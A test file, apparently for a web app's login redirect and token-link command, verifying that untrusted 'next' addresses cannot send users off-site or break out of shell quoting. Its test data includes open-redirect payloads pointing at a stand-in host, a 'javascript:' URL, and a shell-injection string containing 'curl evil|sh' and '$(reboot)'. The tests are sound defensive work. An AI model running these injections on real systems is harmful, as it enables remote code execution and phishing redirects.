import { expect, test } from "vitest";
import { linkCommand, nextOf, ownPath } from "../src/browser/login.ts";

test("a place of this page is where the login leads", () => {
  expect(nextOf("/login", "?next=%2Fs%2Fabc%3Fat%3D4")).toBe("/s/abc?at=4");
  expect(nextOf("/login", "")).toBe("/");
  expect(nextOf("/s/abc", "?tab=diffs")).toBe("/s/abc?tab=diffs");
});

test.each([
  "//evil.example",
  "/\\evil.example",
  "\\\\evil.example",
  "/\t/evil.example",
  "/\n/evil.example",
  "\t//evil.example",
  "/.//evil.example",
  "/..//evil.example",
  "/x/..//evil.example",
  "/%2e//evil.example",
  "https://evil.example",
  "javascript:alert(1)",
  `/${"a".repeat(2_000)}`,
  "",
])("an address that leads elsewhere leads home instead: %j", address => {
  expect(ownPath(address)).toBeNull();
  expect(nextOf("/login", `?next=${encodeURIComponent(address)}`)).toBe("/");
});

test("an address of the page with two slashes is no host", () => {
  expect(nextOf("//s/abc", "")).toBe("/");
});

test("nothing that a link asks for ends the quotes of the command, or begins a line", () => {
  const next = nextOf("/login", `?next=${encodeURIComponent("/s/x';curl evil|sh;'\n`reboot` $(reboot)#'a\u2028")}`);
  const [, quoted] = /^fleet token link NAME --next '([!-~]*)'$/.exec(linkCommand(next)) ?? [];
  expect(quoted).not.toContain("'");
  expect(decodeURIComponent(quoted ?? "")).toBe("/s/x';curl evil|sh;'`reboot` $(reboot)#'a\u2028");
});
